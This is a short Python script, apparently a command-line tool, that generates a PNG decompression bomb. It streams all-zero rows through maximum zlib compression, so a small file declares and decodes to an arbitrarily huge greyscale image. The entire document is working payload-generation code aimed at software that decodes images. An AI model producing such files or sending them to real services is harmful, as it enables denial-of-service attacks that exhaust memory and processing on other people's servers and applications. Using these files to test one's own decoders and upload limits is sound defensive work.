"""Write a W x H 8-bit greyscale all-black PNG without holding it in memory: python3 make_png_bomb.py OUT W H"""

import struct
import sys
import zlib

out, w, h = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


comp = zlib.compressobj(9)
row = b"\x00" * (w + 1)
parts = []
for _ in range(h):
    parts.append(comp.compress(row))
parts.append(comp.flush())
with open(out, "wb") as f:
    f.write(b"\x89PNG\r\n\x1a\n")
    f.write(chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0)))
    f.write(chunk(b"IDAT", b"".join(parts)))
    f.write(chunk(b"IEND", b""))
